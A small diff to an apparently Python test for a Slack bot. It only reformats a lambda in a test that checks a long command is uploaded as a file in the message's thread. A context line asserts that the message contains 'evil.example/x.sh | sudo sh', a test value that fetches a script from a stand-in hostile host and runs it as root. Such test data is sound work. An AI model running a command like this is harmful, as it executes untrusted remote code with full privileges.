@@ -99,8 +99,10 @@ async def test_a_command_too_long_for_thread_replies_is_one_file() -> None:
         assert "evil.example/x.sh | sudo sh" in all_text(message.blocks)
         whole = command.encode("utf-8")
         await until(
-            lambda: _thread(h, message)  # shared in the message's thread, once uploaded
-            and [f for f in h.slack.workspace.files.values() if f.content == whole],
+            lambda: (
+                _thread(h, message)  # shared in the message's thread, once uploaded
+                and [f for f in h.slack.workspace.files.values() if f.content == whole]
+            ),
             within=20,
             what="the uploaded command, shared in the thread",
         )
